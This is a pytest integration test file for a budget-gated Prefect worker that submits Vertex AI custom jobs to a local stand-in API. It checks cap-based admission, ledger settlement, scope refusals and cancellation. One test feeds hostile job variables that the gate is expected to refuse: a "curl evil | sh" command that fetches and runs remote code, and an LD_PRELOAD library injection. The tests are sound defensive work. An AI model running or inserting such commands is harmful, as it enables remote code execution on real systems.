"""The `gpu-budget-vertex-ai` worker type against a real Prefect server, a real pool of that type
(`prefect work-pool create --type gpu-budget-vertex-ai`), a real `prefect worker start`, and
the local stand-in of the Vertex AI CustomJob API (reached through the pool's `api_endpoint`
job variable by the real google-cloud-aiplatform client, with a freshly made service-account
key): runs whose scope's cap fits one at a time submit their custom jobs one after the other,
each job is the one the gate priced, it is settled at the job's own start and end times, an
override outside the deployment's scope submits nothing, a job past max_runtime is stopped, and
a job its owner stops is cancelled (the stop every runner shares with preemption).

The stand-in runs no container, so the flow runs themselves never run: what is checked is what
the worker submits, when, and what the ledger records."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Iterator
from typing import Any

import pytest
from prefect.client.orchestration import get_client
from prefect.client.schemas.actions import WorkPoolUpdate
from prefect.deployments import run_deployment
from prefect_gcp import GcpCredentials

from prefect_gpu_budget.admission.ledger import Ledger
from prefect_gpu_budget.admission.rules.policy import BudgetRule
from prefect_gpu_budget.pricing.catalog import Catalog
from tests.launchers.fake_vertex import STRATEGIES, FakeVertex, Script, enum_name
from tests.support.gcp_server import service_account_info, serving
from tests.support.prefect_server import stop_groups, wait_for
from tests.support.without_extra import VERTEX_MODULES, run_without

POOL = "gpu-vertex"
SCOPE = "lab/vertex"
MACHINE = "gcp:a2-highgpu-1g"


@pytest.fixture(scope="module")
def house(prefect_api: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """A gated Vertex pool with two deployments (1 min and 3 s max_runtime), a ledger whose
    cap holds one a2-highgpu-1g job at a time, the Vertex stand-in, and a worker."""
    tmp = tmp_path_factory.mktemp("vertex-worker")
    key, public = service_account_info()
    no_prices = str(tmp / "none.csv")  # the shipped catalog only
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("PREFECT_GPU_BUDGET_PRICES", no_prices)
        rate = Catalog.load().quote(MACHINE, 1, "on-demand").rate_micro_per_hour
    url = f"sqlite:///{tmp / 'ledger.db'}"
    cap_cents = rate * 3 // 2 // 10_000  # one job fits, two do not
    Ledger(url).config.set_budget(
        BudgetRule("lab", hourly_cap_cents=cap_cents, period_budget_micro=10**9)
    )
    env = {
        **os.environ,
        "PREFECT_API_URL": prefect_api,
        "PREFECT_GPU_BUDGET_LEDGER_URL": url,
        "PREFECT_GPU_BUDGET_PRICES": no_prices,
        "PREFECT_WORKER_QUERY_SECONDS": "1",
        "PREFECT_SERVER_ANALYTICS_ENABLED": "false",
    }
    created = subprocess.run(
        [sys.executable, "-m", "prefect", "work-pool", "create", POOL]
        + ["--type", "gpu-budget-vertex-ai"],
        env=env,
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert created.returncode == 0, created.stdout + created.stderr
    with serving(FakeVertex(public_key=public)) as fake:
        credentials = GcpCredentials(service_account_info=key, project="demo-project")
        block_id = credentials.save(f"vertex-worker-{tmp.name}".lower().replace("_", "-"))
        with get_client(sync_client=True) as client:
            template = client.read_work_pool(POOL).base_job_template
            template["variables"]["properties"]["credentials"]["default"] = {
                "$ref": {"block_document_id": str(block_id)}
            }  # as the UI sets a block on a pool
            client.update_work_pool(POOL, WorkPoolUpdate(base_job_template=template))
            flow_id = client.create_flow_from_name("vertex-target")
            for name, runtime in (("gated", "1m"), ("slow", "3s")):
                client.create_deployment(
                    flow_id=flow_id,
                    name=name,
                    work_pool_name=POOL,
                    entrypoint="target.py:target",
                    job_variables={
                        "instance_type": MACHINE,
                        "scope": SCOPE,
                        "max_runtime": runtime,
                        "region": "us-central1",
                        "image": "us-docker.pkg.dev/demo-project/train/trainer:1",
                        "api_endpoint": fake.url,
                        "job_watch_poll_interval": 0.2,
                    },
                )
        worker = subprocess.Popen(
            [sys.executable, "-m", "prefect", "worker", "start", "--pool", POOL],
            env=env,
            stdout=(tmp / "worker.log").open("w"),
            stderr=subprocess.STDOUT,
            start_new_session=True,
        )
        try:
            yield {"ledger": Ledger(url), "fake": fake, "log": tmp / "worker.log"}
        finally:
            stop_groups([worker])


def _settled(ledger: Ledger, runs: list, timeout: float = 180) -> list[dict]:
    ids = {str(r.id) for r in runs}

    def done() -> list[dict] | None:
        rows = [r for r in ledger.views.jobs(SCOPE) if r["flow_run_id"] in ids]
        return (
            rows if len(rows) == len(ids) and all(r["state"] == "settled" for r in rows) else None
        )

    return wait_for(done, timeout, "the worker to settle the runs")


def _states(flow_run_id: Any) -> list[str]:
    with get_client(sync_client=True) as client:
        return [s.name for s in client.read_flow_run_states(flow_run_id)]


def test_the_pool_shows_the_gate_variables(house):
    with get_client(sync_client=True) as client:
        pool = client.read_work_pool(POOL)
    properties = pool.base_job_template["variables"]["properties"]
    for name in ("instance_type", "scope", "max_runtime", "nodes", "priority", "max_wait"):
        assert name in properties, name
    assert {"provisioning", "api_endpoint", "region", "image"} <= set(properties)


@pytest.mark.timeout(400)
def test_runs_whose_cap_fits_one_submit_one_after_the_other_and_settle_at_the_jobs_times(house):
    ledger, fake = house["ledger"], house["fake"]
    fake.script = Script(queued_s=0.3, pending_s=0.3, run_s=1.5)
    before = len(fake.created)
    runs = [run_deployment("vertex-target/gated", timeout=0) for _ in range(2)]
    rows = sorted(_settled(ledger, runs), key=lambda r: r["admitted_at"])
    assert [r["outcome"] for r in rows] == ["completed", "completed"], house["log"].read_text()
    assert rows[0]["ended_at"] <= rows[1]["admitted_at"]  # never two at once
    jobs = {j.name: j for j in fake.jobs.values()}
    for row in rows:
        job = jobs[row["external_id"]]
        assert abs(row["started_at"] - job.start()) < 1e-3  # the job's own start, not submit
        assert abs(row["billed_seconds"] - 1.5) < 1e-3
    bodies = fake.created[before:]
    assert len(bodies) == 2
    marks = {body["labels"]["gpu-budget-job"] for body in bodies}  # for the bill to find
    assert marks == {row["id"] for row in rows}
    for body in bodies:  # the job the gate priced, with max_runtime as its timeout
        [pool] = body["jobSpec"]["workerPoolSpecs"]
        assert pool["machineSpec"]["machineType"] == "a2-highgpu-1g"
        assert pool["machineSpec"]["acceleratorCount"] == 1
        scheduling = body["jobSpec"]["scheduling"]
        assert scheduling["timeout"] == "60s"
        assert enum_name(STRATEGIES, scheduling["strategy"]) == "STANDARD"
    if rows[1]["requested_at"] < rows[0]["ended_at"]:  # the worker took both at once
        assert "AwaitingBudget" in _states(rows[1]["flow_run_id"])


@pytest.mark.timeout(300)
def test_an_override_outside_the_deployments_scope_submits_nothing(house):
    ledger, fake = house["ledger"], house["fake"]
    before, rows = len(fake.created), len(ledger.views.jobs())
    run = run_deployment("vertex-target/gated", job_variables={"scope": "other/x"}, timeout=0)

    def ended():
        with get_client(sync_client=True) as client:
            state = client.read_flow_run(run.id).state
        return state if state and state.is_final() else None

    state = wait_for(ended, 120, "the run to be refused")
    assert state.name == "GateRefused"
    assert state.message == "scope 'other/x' is not within the deployment's scope 'lab/vertex'"
    assert len(fake.created) == before and len(ledger.views.jobs()) == rows


@pytest.mark.timeout(300)
def test_a_run_that_sets_what_its_deployment_did_not_allow_submits_nothing(house):
    """Another image, another endpoint (a stand-in that bills nothing), an `env` or a
    `command` of the run's own: GateRefused naming it, no custom job, no ledger row."""
    ledger, fake = house["ledger"], house["fake"]
    before, rows = len(fake.created), len(ledger.views.jobs())
    attacks = {
        "image": "docker.io/someone/else:latest",
        "api_endpoint": "http://127.0.0.1:9",
        "env": {"LD_PRELOAD": "/tmp/x.so"},
        "command": "sh -c 'curl evil | sh'",
    }
    runs = {
        key: run_deployment("vertex-target/gated", job_variables={key: value}, timeout=0)
        for key, value in attacks.items()
    }

    def ended(run):
        with get_client(sync_client=True) as client:
            state = client.read_flow_run(run.id).state
        return state if state and state.is_final() else None

    for key, run in runs.items():
        state = wait_for(lambda run=run: ended(run), 120, "the run to be refused")
        assert state.name == "GateRefused", (key, state)
        assert state.message.startswith(f"job variable {key} is the deployment's to set")
    assert len(fake.created) == before and len(ledger.views.jobs()) == rows


@pytest.mark.timeout(300)
def test_a_job_past_max_runtime_is_cancelled_and_pays_for_what_ran(house):
    ledger, fake = house["ledger"], house["fake"]
    fake.script = Script(run_s=60, honor_timeout=False)  # Vertex's own timeout misses it
    run = run_deployment("vertex-target/slow", timeout=0)
    [row] = _settled(ledger, [run], timeout=120)
    assert row["external_id"] in fake.cancelled
    assert row["outcome"] == "timed_out" and 3.0 <= row["billed_seconds"] < 10


@pytest.mark.timeout(300)
def test_a_job_its_owner_stops_is_cancelled_and_pays_for_what_ran(house):
    """`ledger.settlements.ask_stop` (an agent's cancel of its running trial) reaches a Vertex
    run as a preemption does (`lifecycle.Running`): its custom job is cancelled, it is settled
    `cancelled` from the job's own times, and its flow run ends Cancelled saying why."""
    ledger, fake = house["ledger"], house["fake"]
    fake.script = Script(run_s=60)
    run = run_deployment("vertex-target/gated", timeout=0)
    started = wait_for(
        lambda: next(
            (
                r
                for r in ledger.views.jobs(SCOPE)
                if r["flow_run_id"] == str(run.id) and r["started_at"]
            ),
            None,
        ),
        120,
        "the custom job to start",
    )
    assert ledger.settlements.ask_stop(started["id"], "stopped from a test")
    [row] = _settled(ledger, [run], timeout=120)
    assert row["external_id"] in fake.cancelled
    assert row["outcome"] == "cancelled" and row["billed_seconds"] < 60, row

    def ended():  # the run is set Cancelled as its stop begins, then again with the cost
        with get_client(sync_client=True) as client:
            state = client.read_flow_run(run.id).state
        settled = state and state.is_final() and "stopping it gracefully" not in state.message
        return state if settled else None

    state = wait_for(ended, 60, "the run to end with its cost")
    assert state.is_cancelled(), state
    assert state.message.startswith("stopped from a test; cost ")


def test_without_the_vertex_extra_the_collection_still_loads():
    """Every worker and server loads the collection: a missing SDK must not break it."""
    done = run_without(
        VERTEX_MODULES,
        """
        from prefect_gpu_budget import collection
        print(collection.vertex.GpuBudgetVertexWorker.type)
        """,
    )
    assert done.stdout.split() == ["gpu-budget-vertex-ai"], done.stderr[-2000:]
